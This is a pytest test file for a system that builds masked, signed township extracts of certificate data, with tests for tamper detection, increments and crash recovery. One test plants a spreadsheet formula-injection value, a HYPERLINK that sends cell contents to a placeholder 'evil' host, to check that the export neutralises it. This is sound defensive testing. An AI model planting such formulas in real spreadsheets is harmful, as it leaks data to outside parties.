"""Township extracts (数据回流): only the township's subjects and the fields the matters need,
masked by the contracts' classification; Parquet and XLSX with a signed manifest that verifies
offline and names a changed file or row; numbered increments a station applies in order."""

from __future__ import annotations

import datetime as dt
import json
import shutil
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import sqlalchemy as sa

from catalog import Catalog, certificates, extract_rows, township_extracts
from evidence.keys import SigningKey
from evidence.lifecycle import Lifecycle
from evidence.townships import mark_stale
from onceonly.errors import ConfigurationError, VerificationFailed
from onceonly.settings import Settings
from sharing.extract_manifest import (
    HEADERS,
    MANIFEST_FILE,
    NAMES,
    PARQUET_FILE,
    ROWS_FILE,
    XLSX_FILE,
    apply_extract,
    file_sha256,
    open_manifest,
    read_xlsx_rows,
    verify_extract,
)
from sharing.extracts import (
    EXTRACT_SCHEMA,
    ExtractNotFound,
    extract_folder,
    extract_policy,
    extracts_since,
    list_extracts,
    refresh_extracts,
)

LAKE_TESTS = Path(__file__).parents[1] / "lake"
YANGCUN, XIAZHUZHUANG = "120114001000", "120114002000"
AS_OF = dt.date(2026, 11, 21)


@pytest.fixture
def lh(monkeypatch: pytest.MonkeyPatch) -> Any:
    monkeypatch.syspath_prepend(str(LAKE_TESTS))
    import landing_harness

    return landing_harness


@pytest.fixture(scope="module")
def key() -> SigningKey:
    return SigningKey.generate("onceonly.example/test/evidence")


@pytest.fixture
def world(catalog: Catalog, tmp_path: Path, key: SigningKey, lh: Any) -> Iterator[World]:
    yield World(lh.Harness(catalog, tmp_path / "lake", key), tmp_path / "extracts", lh)


class World:
    """A catalog with a signed log, households and licences landed through the real contracts."""

    def __init__(self, harness: Any, out: Path, lh: Any) -> None:
        self.h = harness
        self.out = out
        self.lh = lh
        self.cursor = 0
        self.policy = extract_policy(Settings().contracts_dir, Settings().matters_file)

    def land(self, rows: list[dict[str, Any]], compiled: Any = None) -> None:
        compiled = compiled or self.lh.HOUSEHOLD
        connector = {"household": "gongan-household", "business_licence": "scjg-licences"}[
            compiled.contract.id
        ]
        self.cursor += 1
        before = None if self.cursor == 1 else {"w": self.cursor - 1}
        self.h.land(rows, before=before, after={"w": self.cursor}, compiled=compiled, connector=connector)

    def people(self, *seqs: int, township: str = YANGCUN, **over: Any) -> None:
        self.land([self.lh.household_row(s, township_code=township, **over) for s in seqs])

    def refresh(self, **kwargs: Any) -> list[Any]:
        kwargs.setdefault("as_of", AS_OF)
        policy = kwargs.pop("policy", self.policy)
        return refresh_extracts(self.h.catalog, self.out, self.h.log, policy, **kwargs)

    def cert(self, seq: int) -> str:
        with self.h.catalog.read() as conn:
            return str(
                conn.execute(
                    sa.select(certificates.c.cert_id)
                    .where(certificates.c.holder_id == self.lh.citizen_id(seq))
                    .order_by(certificates.c.leaf_index.desc())
                )
                .scalars()
                .first()
            )

    def lifecycle(self, cert_id: str, action: str) -> None:
        with self.h.catalog.begin() as conn:
            Lifecycle(self.h.log).change(conn, cert_id, action, reason="测试")

    @property
    def verifiers(self) -> list[Any]:
        return [self.h.key.verifier]


def _rows(folder: Path) -> list[dict[str, Any]]:
    return pq.read_table(folder / PARQUET_FILE).to_pylist()


def _manifest(folder: Path) -> dict[str, Any]:
    return json.loads((folder / MANIFEST_FILE).read_text(encoding="utf-8").split("\n\n")[0])


# ------------------------------------------------------------------ what goes in, and how


def test_each_township_gets_only_its_subjects_with_personal_fields_masked_by_classification(
    world: World,
) -> None:
    world.people(1, 2)
    world.people(3, township=XIAZHUZHUANG)
    world.land([world.lh.licence_row(4, township_code=YANGCUN)], world.lh.LICENCE)

    written = world.refresh()

    assert [(e.township, e.extract_no, e.kind) for e in written] == [
        (YANGCUN, 1, "full"),
        (XIAZHUZHUANG, 1, "full"),
    ]
    yangcun = _rows(extract_folder(world.out, YANGCUN, 1))
    assert pq.read_table(extract_folder(world.out, YANGCUN, 1) / PARQUET_FILE).schema.equals(EXTRACT_SCHEMA)
    households = [r for r in yangcun if r["type_code"] == world.lh.HOUSEHOLD.certificate.type_code]
    licences = [r for r in yangcun if r["type_code"] == world.lh.LICENCE.certificate.type_code]
    assert len(households) == 2 and len(licences) == 1 and {r["change"] for r in yangcun} == {"全量"}
    # 居民户口簿: name and ID restricted in the household contract -> masked
    ids = {world.lh.citizen_id(1), world.lh.citizen_id(2)}
    assert {r["holder_id"] for r in households} == {i[:6] + "********" + i[-4:] for i in ids}
    assert {r["holder_name"] for r in households} == {"张*"}
    # 营业执照: USCC and company name public in the licence contract -> in clear
    assert (
        licences[0]["holder_id"] == world.lh.uscc(4)
        and licences[0]["holder_name"] == "天津武清第4号商贸有限公司"
    )
    # the other township's resident is not in this extract, and only there
    (other,) = _rows(extract_folder(world.out, XIAZHUZHUANG, 1))
    assert other["holder_id"] == world.lh.citizen_id(3)[:6] + "********" + world.lh.citizen_id(3)[-4:]
    assert other["cert_id"] not in {r["cert_id"] for r in yangcun}

    fields = {
        (t["type_code"], f["field"]): f
        for t in _manifest(extract_folder(world.out, YANGCUN, 1))["certificate_types"]
        for f in t["fields"]
    }
    household = world.lh.HOUSEHOLD.certificate.type_code
    assert fields[(household, "holder_id")]["shown"] == "masked"
    assert fields[(household, "holder_id")]["classification"] == "restricted"
    assert fields[(world.lh.LICENCE.certificate.type_code, "holder_name")]["shown"] == "clear"


def test_a_field_a_matter_needs_in_clear_is_clear_and_the_manifest_says_why(world: World) -> None:
    world.people(1)
    policy = extract_policy(
        Settings().contracts_dir, Settings().matters_file, {"temporary-assistance": ["holder_name"]}
    )
    (written,) = world.refresh(policy=policy)

    (row,) = _rows(written.folder)
    assert row["holder_name"] == "张1" and row["holder_id"] != world.lh.citizen_id(1)
    household = world.lh.HOUSEHOLD.certificate.type_code
    (shown,) = [
        f
        for t in _manifest(written.folder)["certificate_types"]
        if t["type_code"] == household
        for f in t["fields"]
        if f["field"] == "holder_name"
    ]
    assert shown["shown"] == "clear" and shown["matter"] == "temporary-assistance"
    assert "临时救助申请" in shown["why"] and shown["classification"] == "restricted"

    with pytest.raises(ConfigurationError, match="no matter 'no-such-matter'"):
        extract_policy(Settings().contracts_dir, Settings().matters_file, {"no-such-matter": ["holder_name"]})
    with pytest.raises(ConfigurationError, match="unknown field 'address'"):
        extract_policy(
            Settings().contracts_dir, Settings().matters_file, {"temporary-assistance": ["address"]}
        )


def test_the_xlsx_opens_with_chinese_headers_no_clear_id_and_no_live_formula(world: World) -> None:
    world.people(1, 2)
    world.land(
        [world.lh.licence_row(5, township_code=YANGCUN, name='=HYPERLINK("http://evil/?"&A1,"点击")')],
        world.lh.LICENCE,
    )
    (written,) = world.refresh()

    book = openpyxl.load_workbook(written.folder / XLSX_FILE)
    sheet = book["证照"]
    header = [c.value for c in sheet[1]]
    assert header == [HEADERS[n] for n in NAMES] and header[:6] == [
        "变动",
        "证照标识",
        "证照类型代码",
        "证照类型",
        "持证人",
        "持证人证件号码",
    ]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    texts = {str(c.value) for c in cells if c.value is not None}
    assert not {world.lh.citizen_id(1), world.lh.citizen_id(2)} & texts
    assert not any(c.data_type == "f" for c in cells), "no cell is a formula"
    assert '\'=HYPERLINK("http://evil/?"&A1,"点击")' in texts
    assert sheet.max_row == 4 and "说明" in book.sheetnames
    assert any("屏蔽" in str(c.value) for row in book["说明"].iter_rows() for c in row)


def test_files_are_private_and_folders_700(world: World) -> None:
    world.people(1)
    (written,) = world.refresh()
    for path in [written.folder, written.folder.parent, *written.folder.iterdir()]:
        mode = stat.S_IMODE(path.stat().st_mode)
        assert mode == (0o700 if path.is_dir() else 0o600), path


# ------------------------------------------------------------------ the signed manifest


def test_the_manifest_verifies_offline_and_is_logged(world: World) -> None:
    world.people(1, 2)
    (written,) = world.refresh()

    report = verify_extract(written.folder, world.verifiers)
    m = report.manifest
    assert (m["township"], m["extract_no"], m["kind"], m["rows"], m["previous"]) == (
        YANGCUN,
        1,
        "full",
        2,
        None,
    )
    assert [f["name"] for f in m["files"]] == [PARQUET_FILE, XLSX_FILE, "rows.sha256"]
    assert m["checkpoint"]["size"] == report.checkpoint_size > 0 and "镇街" in report.summary
    other = SigningKey.generate("onceonly.example/test/evidence")
    with pytest.raises(VerificationFailed, match="not signed by the district's key"):
        verify_extract(written.folder, [other.verifier])
    with world.h.catalog.read() as conn:
        (record,) = list_extracts(conn, YANGCUN)
    assert record.manifest_sha256 == written.manifest_sha256 and record.kind == "full"
    logged = [leaf for leaf in world.h.leaves() if leaf.kind == "extract-manifest"]
    assert len(logged) == 1 and json.loads(logged[0].entry)["manifest_sha256"] == written.manifest_sha256


def test_a_changed_file_is_named(world: World) -> None:
    world.people(1, 2)
    (written,) = world.refresh()
    xlsx = written.folder / XLSX_FILE
    xlsx.write_bytes(xlsx.read_bytes() + b"\0")
    with pytest.raises(VerificationFailed, match=r"certificates\.xlsx was changed"):
        verify_extract(written.folder, world.verifiers)


def test_a_changed_row_is_named_in_the_parquet_and_in_the_xlsx(world: World) -> None:
    world.people(1, 2, 3)
    (written,) = world.refresh()
    rows = _rows(written.folder)
    rows[1]["status"] = "有效 " if rows[1]["status"] != "有效 " else "有效"
    pq.write_table(pa.Table.from_pylist(rows, schema=EXTRACT_SCHEMA), written.folder / PARQUET_FILE)
    with pytest.raises(VerificationFailed) as failed:
        verify_extract(written.folder, world.verifiers)
    assert f"certificates.parquet: row 2 (certificate {rows[1]['cert_id']}) was changed" in str(failed.value)
    assert "row 1 " not in str(failed.value) and "row 3 " not in str(failed.value)

    book = openpyxl.load_workbook(written.folder / XLSX_FILE)
    book["证照"]["I4"] = "撤销"  # 状态 of the third certificate
    book.save(written.folder / XLSX_FILE)
    with pytest.raises(VerificationFailed) as failed:
        verify_extract(written.folder, world.verifiers)
    assert f"certificates.xlsx: sheet row 4 (certificate {rows[2]['cert_id']}) was changed" in str(
        failed.value
    )


def test_a_crash_before_the_log_leaves_no_folder_and_the_rerun_writes_the_extract(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    world.people(1, 2)

    def crash(*args: Any, **kwargs: Any) -> Any:
        raise RuntimeError("killed before the log")

    monkeypatch.setattr(world.h.log, "append", crash)
    with pytest.raises(RuntimeError):
        world.refresh()
    township = world.out / f"township={YANGCUN}"
    assert list(township.iterdir()) == []  # its temporary folder went with it
    with world.h.catalog.read() as conn:
        assert list_extracts(conn) == []
    monkeypatch.undo()

    (written,) = world.refresh()
    assert written.extract_no == 1 and written.folder == extract_folder(world.out, YANGCUN, 1)
    assert [p.name for p in township.iterdir()] == ["extract=000001"]
    verify_extract(written.folder, world.verifiers)
    assert world.refresh() == []


def test_two_writers_at_once_one_records_the_number_the_other_leaves_no_files(
    world: World, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """Pull runs, township-return and `extracts write` may run together: both plan number N;
    the one that records it second drops its own folder and leaves the township for later."""
    import sharing.extracts as ex

    world.people(1, 2)
    write = ex._write_files
    others: list[Any] = []
    calls = []

    def meanwhile(*args: Any, **kwargs: Any) -> None:
        write(*args, **kwargs)
        calls.append(1)
        if len(calls) == 1:  # the first writer has its files; a second one writes and records first
            others.append(world.refresh(full=True, townships=[YANGCUN], as_of=AS_OF + dt.timedelta(days=1)))

    monkeypatch.setattr(ex, "_write_files", meanwhile)
    with caplog.at_level("WARNING"):
        assert world.refresh(full=True, townships=[YANGCUN]) == []
    assert "recorded by another writer" in caplog.text
    ((second,),) = others
    folder = extract_folder(world.out, YANGCUN, 1)
    assert [p.name for p in folder.parent.iterdir()] == ["extract=000001"]
    with world.h.catalog.read() as conn:
        (record,) = list_extracts(conn, YANGCUN)
    report = verify_extract(folder, world.verifiers)
    assert report.manifest["as_of"] == (AS_OF + dt.timedelta(days=1)).isoformat()
    assert record.manifest_sha256 == second.manifest_sha256 == file_sha256(folder / MANIFEST_FILE)


def test_a_writer_whose_planned_file_goes_because_another_recorded_the_number_goes_on(
    world: World, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """Planning writes into the temporary folder; another writer that records the number first
    removes that folder. The first writer then drops the township, as when it loses at recording,
    and goes on with the next; a file error with the number not recorded still stops it."""
    import sharing.extracts as ex

    world.people(1, 2)
    world.people(3, township=XIAZHUZHUANG)
    real = ex._write_snapshot
    others: list[Any] = []
    raced: list[str] = []

    def meanwhile(conn: Any, township: str, policy: Any, path: Path) -> int:
        if township == YANGCUN and not raced:  # another writer records number 1 and cleans up
            raced.append(township)
            others.append(world.refresh(full=True, townships=[YANGCUN], as_of=AS_OF + dt.timedelta(days=1)))
            raise FileNotFoundError(2, "No such file or directory", str(path))
        return real(conn, township, policy, path)

    monkeypatch.setattr(ex, "_write_snapshot", meanwhile)
    with caplog.at_level("WARNING"):
        written = world.refresh()
    assert "township 120114001000: extract 1 was recorded by another writer" in caplog.text
    assert [e.township for e in written] == [XIAZHUZHUANG]
    ((theirs,),) = others
    assert not list(world.out.glob("township=*/*.tmp-*"))
    report = verify_extract(extract_folder(world.out, YANGCUN, 1), world.verifiers)
    assert report.manifest["as_of"] == (AS_OF + dt.timedelta(days=1)).isoformat()  # the other writer's
    assert theirs.extract_no == 1 and theirs.manifest_sha256 == file_sha256(theirs.folder / MANIFEST_FILE)

    def disk_full(conn: Any, township: str, policy: Any, path: Path) -> int:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(ex, "_write_snapshot", disk_full)
    with pytest.raises(OSError, match="No space left"):
        world.refresh(full=True, townships=[XIAZHUZHUANG])
    assert not list(world.out.glob("township=*/*.tmp-*"))


def test_a_crash_after_the_record_before_the_rename_is_put_in_place_by_the_next_run(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    import sharing.extracts as ex

    world.people(1, 2)

    def killed(*args: Any, **kwargs: Any) -> None:
        raise SystemExit("killed after the commit")

    monkeypatch.setattr(ex, "_place", killed)
    with pytest.raises(SystemExit):
        world.refresh()
    monkeypatch.undo()
    folder = extract_folder(world.out, YANGCUN, 1)
    (temp,) = folder.parent.iterdir()
    assert temp.name.startswith("extract=000001.tmp-") and not folder.exists()
    from lake.audit import audit

    between = audit(world.h.catalog, world.h.lake, extracts_dir=world.out, verifiers=world.verifiers)
    assert between.ok, between.findings  # recorded, not yet in place: not an inconsistency
    assert any("not yet renamed into place" in u for u in between.uncovered)

    assert world.refresh() == []  # nothing stale: the run only recovers
    assert [p.name for p in folder.parent.iterdir()] == ["extract=000001"]
    with world.h.catalog.read() as conn:
        (record,) = list_extracts(conn, YANGCUN)
    assert record.manifest_sha256 == file_sha256(folder / MANIFEST_FILE)
    verify_extract(folder, world.verifiers)


def test_an_extract_returned_holds_no_rows_once_recorded(world: World) -> None:
    world.people(1, 2)
    world.people(3, township=XIAZHUZHUANG)
    written = world.refresh()
    assert [(e.count, e.rows.num_rows, e.sent.num_rows) for e in written] == [(2, 0, 0), (1, 0, 0)]
    assert [e.summary_row()["行数"] for e in written] == [2, 1]


# ------------------------------------------------------------------ increments and catching up


def test_an_increment_carries_exactly_what_changed(world: World) -> None:
    world.people(1, 2, 3)
    world.land([world.lh.licence_row(4, township_code=YANGCUN, valid_to="2026-12-31")], world.lh.LICENCE)
    world.refresh()
    assert world.refresh() == []  # nothing stale, nothing written

    world.lifecycle(world.cert(1), "revoke")
    world.lifecycle(world.cert(2), "suspend")
    with world.h.catalog.begin() as conn:
        Lifecycle(world.h.log).expire_due(conn, dt.date(2027, 1, 1))
    world.people(5)
    (second,) = world.refresh()

    assert (second.extract_no, second.kind, second.previous[0]) == (2, "incremental", 1)
    assert second.changes == {
        "new": 1,
        "changed": 0,
        "revoked": 1,
        "suspended": 1,
        "expired": 1,
        "superseded": 0,
        "removed": 0,
    }
    rows = {r["change"]: r for r in _rows(second.folder)}
    assert set(rows) == {"新增", "撤销", "暂扣", "失效"}
    assert rows["撤销"]["cert_id"] == world.cert(1) and rows["撤销"]["status"] == "撤销"
    assert (
        rows["暂扣"]["status"] == "暂扣"
        and rows["失效"]["type_code"] == world.lh.LICENCE.certificate.type_code
    )
    report = verify_extract(second.folder, world.verifiers)
    assert report.follows_checked and report.manifest["previous"]["manifest_sha256"] == world_manifest(
        world, 1
    )

    world.lifecycle(world.cert(2), "restore")
    (third,) = world.refresh()
    assert third.changes["changed"] == 1 and _rows(third.folder)[0]["status"] == "有效"


def world_manifest(world: World, number: int) -> str:
    with world.h.catalog.read() as conn:
        return next(e.manifest_sha256 for e in list_extracts(conn, YANGCUN) if e.extract_no == number)


def test_a_person_who_moves_away_is_removed_from_the_old_township(world: World) -> None:
    world.people(1, 2)
    world.refresh()
    station = apply_extract({}, extract_folder(world.out, YANGCUN, 1))
    old = world.cert(1)
    world.people(1, township=XIAZHUZHUANG)  # a new version in the other township
    written = {e.township: e for e in world.refresh()}
    # the old version is sent once as 移出, with nothing of the person but the certificate id
    assert written[YANGCUN].changes["removed"] == 1 and written[YANGCUN].changes["expired"] == 0
    (moved,) = _rows(written[YANGCUN].folder)
    assert moved["change"] == "移出" and moved["cert_id"] == old
    assert moved["holder_id"] is None and moved["holder_name"] is None
    assert written[XIAZHUZHUANG].kind == "full" and written[XIAZHUZHUANG].changes == {"snapshot": 1}
    station = apply_extract(station, written[YANGCUN].folder)

    world.people(2, address="天津市武清区杨村街道新华路9号")  # something else changes: 1 is not sent again
    (later,) = world.refresh()
    assert old not in {r["cert_id"] for r in _rows(later.folder)}
    station = apply_extract(station, later.folder)
    (full,) = world.refresh(full=True, townships=[YANGCUN])
    snapshot = _rows(full.folder)
    assert old not in {r["cert_id"] for r in snapshot} and len(snapshot) == 1  # 2's new version only
    assert station == {r["cert_id"]: {k: v for k, v in r.items() if k != "change"} for r in snapshot}


def test_snapshots_leave_out_versions_no_longer_in_force_once_told(world: World) -> None:
    world.people(1, 2, 3)
    world.refresh()
    world.lifecycle(world.cert(1), "revoke")
    (told,) = world.refresh()
    assert [(r["change"], r["cert_id"]) for r in _rows(told.folder)] == [("撤销", world.cert(1))]
    (full,) = world.refresh(full=True)
    assert len(_rows(full.folder)) == 2 and world.cert(1) not in {r["cert_id"] for r in _rows(full.folder)}
    world.people(4)
    (after,) = world.refresh()
    assert [r["change"] for r in _rows(after.folder)] == ["新增"]  # the revocation is not told again


def test_a_station_that_missed_three_days_catches_up_and_equals_a_full_snapshot(world: World) -> None:
    world.people(1, 2, 3)
    world.refresh()
    station = apply_extract({}, extract_folder(world.out, YANGCUN, 1))  # the station has number 1

    world.people(4)  # day 2
    world.refresh()
    world.lifecycle(world.cert(1), "revoke")  # day 3
    world.refresh()
    world.lifecycle(world.cert(2), "suspend")  # day 4
    world.people(3, address="天津市武清区杨村街道新华路9号")  # a new version of 3's 户口簿
    world.refresh()

    with world.h.catalog.read() as conn:
        missed = extracts_since(conn, YANGCUN, 1)
        assert extracts_since(conn, YANGCUN, 4) == []
        with pytest.raises(ExtractNotFound, match="no extract number 9"):
            extracts_since(conn, YANGCUN, 9)
    assert [(e.extract_no, e.kind, e.previous_no) for e in missed] == [
        (2, "incremental", 1),
        (3, "incremental", 2),
        (4, "incremental", 3),
    ]
    for e in missed:
        folder = world.out / e.path
        verify_extract(folder, world.verifiers)  # each one, its chain to the one before too
        station = apply_extract(station, folder)

    (full,) = world.refresh(full=True, townships=[YANGCUN])
    assert (full.extract_no, full.kind) == (5, "full")
    snapshot = {r["cert_id"]: {k: v for k, v in r.items() if k != "change"} for r in _rows(full.folder)}
    assert station == snapshot
    # 2 (suspended), 3 (new version), 4: 1 (revoked) and 3's old version were told once (撤销, 换发)
    assert len(snapshot) == 3 and world.cert(1) not in snapshot
    assert {r["change"] for r in _rows(world.out / missed[-1].path)} == {"暂扣", "换发", "新增"}
    # a station that had nothing applies everything from the start and ends at the same place
    everything: dict[str, Any] = {}
    with world.h.catalog.read() as conn:
        for e in extracts_since(conn, YANGCUN, 0):
            everything = apply_extract(everything, world.out / e.path)
    assert everything == snapshot


def test_a_full_snapshot_on_demand_resets_what_was_sent(world: World) -> None:
    world.people(1)
    world.refresh()
    (full,) = world.refresh(full=True)
    assert (full.extract_no, full.kind, full.previous[0]) == (2, "full", 1)
    world.people(2)
    (after,) = world.refresh()
    assert after.changes["new"] == 1 and len(_rows(after.folder)) == 1
    with world.h.catalog.read() as conn:
        marks = conn.execute(sa.select(township_extracts)).all()
    assert all(m.generation == m.written_generation for m in marks)


def test_a_copied_extract_folder_still_verifies(world: World, tmp_path: Path) -> None:
    world.people(1)
    (written,) = world.refresh()
    copy = tmp_path / "usb" / "extract=000001"
    shutil.copytree(written.folder, copy)
    assert (
        open_manifest((copy / MANIFEST_FILE).read_text(encoding="utf-8"), world.verifiers)["extract_no"] == 1
    )
    assert not verify_extract(copy, world.verifiers).follows_checked


# ------------------------------------------------------------------ what a station is handed


def test_a_genuine_older_extract_in_another_extracts_folder_is_refused(world: World) -> None:
    world.people(1, 2)
    world.refresh()
    world.people(3)
    (second,) = world.refresh()
    first = extract_folder(world.out, YANGCUN, 1)
    for path in second.folder.iterdir():
        path.unlink()
    for path in first.iterdir():
        shutil.copy(path, second.folder / path.name)
    with pytest.raises(VerificationFailed, match="the folder is extract 2, its manifest is extract 1"):
        verify_extract(second.folder, world.verifiers)
    other = world.out / f"township={XIAZHUZHUANG}" / "extract=000001"
    shutil.copytree(first, other)
    with pytest.raises(VerificationFailed, match=f"the folder is township {XIAZHUZHUANG}'s"):
        verify_extract(other, world.verifiers)
    (first / "stray").mkdir()
    with pytest.raises(VerificationFailed, match="folder stray is not in the manifest"):
        verify_extract(first, world.verifiers)


def test_a_deleted_or_added_row_is_named_by_its_certificate(world: World) -> None:
    world.people(1, 2, 3, 4)
    (written,) = world.refresh()
    rows = _rows(written.folder)
    gone = rows.pop(1)
    pq.write_table(pa.Table.from_pylist(rows, schema=EXTRACT_SCHEMA), written.folder / PARQUET_FILE)
    with pytest.raises(VerificationFailed) as failed:
        verify_extract(written.folder, world.verifiers)
    message = str(failed.value)
    assert f"certificate {gone['cert_id']} (row 2 of {ROWS_FILE}) was deleted" in message
    assert ") was changed" not in message  # no row named changed: the file is, and one row gone

    rows.insert(1, gone)
    rows.append(dict(rows[0], cert_id="X-1"))
    pq.write_table(pa.Table.from_pylist(rows, schema=EXTRACT_SCHEMA), written.folder / PARQUET_FILE)
    with pytest.raises(VerificationFailed) as failed:
        verify_extract(written.folder, world.verifiers)
    assert "row 5 (certificate X-1) was added" in str(failed.value)
    assert ") was changed" not in str(failed.value) and "deleted" not in str(failed.value)


def test_a_citizen_id_is_never_in_clear(world: World) -> None:
    from pydantic import ValidationError

    with pytest.raises(ConfigurationError, match="居民身份证 number, never in clear"):
        extract_policy(
            Settings().contracts_dir, Settings().matters_file, {"temporary-assistance": ["holder_id"]}
        )
    with pytest.raises(ValidationError, match="holder_id cannot be in clear"):
        Settings(extracts_in_clear={"temporary-assistance": ["holder_id"]})
    assert Settings(extracts_in_clear={"temporary-assistance": ["holder_name"]}).extracts_in_clear


def test_workbooks_written_by_worker_processes_are_recorded_in_order_and_verify(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Big extracts have their workbooks written by a pool of processes ahead of recording:
    the extracts are logged in township order and verify like the ones written inline."""
    import sharing.extracts as ex

    world.people(1, 2, 3)
    world.people(4, 5, township=XIAZHUZHUANG)
    inline = world.refresh()
    inline_rows = {e.township: {f["name"]: f["sha256"] for f in e.files}[ROWS_FILE] for e in inline}
    monkeypatch.setattr(ex, "_POOL_ROWS", 1)  # every extract through the pool
    monkeypatch.setattr(ex, "_cores", lambda: 2)  # whatever this machine has
    pooled = world.refresh(full=True)  # the same certificates again, as numbered snapshots 2
    assert [e.township for e in pooled] == [YANGCUN, XIAZHUZHUANG]
    assert [e.leaf_index for e in pooled] == sorted(e.leaf_index for e in pooled)
    for e in pooled:
        assert verify_extract(e.folder, world.verifiers).manifest["extract_no"] == 2
        assert _rows(e.folder) == read_xlsx_rows(e.folder / XLSX_FILE)
        assert {f["name"]: f["sha256"] for f in e.files}[ROWS_FILE] == inline_rows[e.township]
    assert not list(world.out.glob("township=*/*.tmp-*"))


def _long_extract(tmp_path: Path, rows: int = 3) -> Any:
    import sharing.extracts as ex

    table = pa.Table.from_pylist(
        [
            {name: None for name in NAMES} | {"cert_id": f"CERT-{n}", "holder_name": f"张{n}"}
            for n in range(rows)
        ],
        schema=EXTRACT_SCHEMA,
    )
    return ex.Extract(
        YANGCUN, 1, "full", None, 1, table, {"snapshot": rows}, ex.SENT_SCHEMA.empty_table(), tmp_path / "x"
    )


def test_a_workbook_written_by_a_worker_is_byte_for_byte_the_one_written_here(tmp_path: Path) -> None:
    import sharing.extracts as ex

    extract = _long_extract(tmp_path, rows=500)
    notes = [("镇街", "杨村街道"), ("行数", "500")]
    ex._write_xlsx(tmp_path / "here.xlsx", extract.township, extract.rows, notes)
    books = ex._Workbooks(min_rows=1, workers=2)
    try:
        future = books.submit(tmp_path / "there" / XLSX_FILE, extract, notes)
        assert future is not None and books.ahead == 2
        future.result()
    finally:
        books.close()
    assert file_sha256(tmp_path / "here.xlsx") == file_sha256(tmp_path / "there" / XLSX_FILE)
    # the worker read the rows from the extract's Parquet file, not from a pickled copy
    assert pq.read_table(tmp_path / "there" / PARQUET_FILE).equals(extract.rows)


def test_a_workbook_a_worker_cannot_write_fails_its_township(tmp_path: Path) -> None:
    import sharing.extracts as ex

    extract = _long_extract(tmp_path)
    extract.rows = extract.rows.set_column(
        NAMES.index("holder_name"), "holder_name", pa.array(["张" * 40_000, None, None], pa.string())
    )
    books = ex._Workbooks(min_rows=1, workers=2)
    try:
        future = books.submit(tmp_path / "x.tmp" / XLSX_FILE, extract, [("镇街", "test")])
        assert future is not None
        with pytest.raises(ConfigurationError, match="township 120114001000: certificate CERT-0"):
            future.result()
    finally:
        books.close()
    assert not (tmp_path / "x.tmp" / XLSX_FILE).exists()
    small = ex._Workbooks(min_rows=10)
    assert small.submit(tmp_path / "y" / XLSX_FILE, extract, []) is None and small.ahead == 0


def test_a_refresh_that_stops_leaves_no_folder_and_no_record_of_the_townships_waiting(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    import sharing.extracts as ex

    world.people(1, 2)
    world.people(3, township=XIAZHUZHUANG)
    monkeypatch.setattr(ex, "_POOL_ROWS", 1)
    monkeypatch.setattr(ex, "_cores", lambda: 2)
    real = ex._write_files

    def catalog_gone(e: Any, *args: Any, **kwargs: Any) -> None:
        real(e, *args, **kwargs)
        raise ConfigurationError("the catalog went away")  # the first township, after its files

    monkeypatch.setattr(ex, "_write_files", catalog_gone)
    with pytest.raises(ConfigurationError, match="went away"):
        world.refresh()
    assert not [p for p in world.out.rglob("*") if p.is_dir() and ".tmp-" in p.name]
    with world.h.catalog.read() as conn:
        assert list_extracts(conn) == []
    monkeypatch.setattr(ex, "_write_files", real)
    assert [e.township for e in world.refresh()] == [YANGCUN, XIAZHUZHUANG]  # marks kept


def test_a_pool_that_cannot_start_gives_way_to_writing_here(
    world: World, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    import sharing.extracts as ex

    def no_shm(*args: Any, **kwargs: Any) -> Any:
        raise OSError(38, "Function not implemented: /dev/shm")

    world.people(1, 2)
    monkeypatch.setattr(ex, "_POOL_ROWS", 1)
    monkeypatch.setattr(ex, "_cores", lambda: 2)
    monkeypatch.setattr(ex, "ProcessPoolExecutor", no_shm)
    with caplog.at_level("WARNING"):
        (written,) = world.refresh()
    assert "writing them in this process" in caplog.text and "OSError" in caplog.text
    assert _rows(written.folder) == read_xlsx_rows(written.folder / XLSX_FILE)


def test_workbook_writers_start_without_the_passphrase_catalog_url_or_department_secrets(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import os

    import sharing.extracts as ex

    monkeypatch.setenv("ONCEONLY_KEY_PASSPHRASE", "p")
    monkeypatch.setenv("ONCEONLY_DATABASE_URL", "postgresql://u:pw@h/db")
    monkeypatch.setenv("ONCEONLY_SECRET_GONGAN_PG_PASSWORD", "pw")
    monkeypatch.setenv("ONCEONLY_HOME", "/srv/onceonly")
    with ex._environment_without_secrets():
        hidden = ("ONCEONLY_KEY_PASSPHRASE", "ONCEONLY_DATABASE_URL", "ONCEONLY_SECRET_GONGAN_PG_PASSWORD")
        assert not [n for n in hidden if n in os.environ]
        assert os.environ["ONCEONLY_HOME"] == "/srv/onceonly"
    assert os.environ["ONCEONLY_SECRET_GONGAN_PG_PASSWORD"] == "pw"
    assert os.environ["ONCEONLY_KEY_PASSPHRASE"] == "p"


# ------------------------------------------------------------------ increments planned from what changed


def _planned_both_ways(world: World, monkeypatch: pytest.MonkeyPatch) -> dict[str, tuple[Any, Any, int, int]]:
    """Each marked township's next increment planned from the certificates touched since its
    last extract, and from all it holds (as when the policy changed): both plans, and how many
    certificates each looked at."""
    import sharing.extracts as extracts

    looked: list[int] = []
    real_found = extracts._found

    def counted(*args: Any, **kwargs: Any) -> pa.Table:
        table = real_found(*args, **kwargs)
        looked.append(table.num_rows)
        return table

    monkeypatch.setattr(extracts, "_found", counted)
    plans = {}
    with world.h.catalog.read() as conn:
        marked = conn.execute(
            sa.select(township_extracts.c.township, township_extracts.c.generation).where(
                township_extracts.c.generation != township_extracts.c.written_generation
            )
        ).all()
        for township, generation in marked:
            touched = extracts._plan(conn, world.out, township, generation, world.policy, False)
            with monkeypatch.context() as m:
                m.setattr(extracts, "_shown_by", lambda manifest: (None, None))
                whole = extracts._plan(conn, world.out, township, generation, world.policy, False)
            plans[township] = (touched, whole, *looked[-2:])
    monkeypatch.setattr(extracts, "_found", real_found)
    return plans


def _same_increment(touched: Any, whole: Any) -> None:
    if whole is None:
        assert touched is None
        return
    assert touched.kind == whole.kind == "incremental"
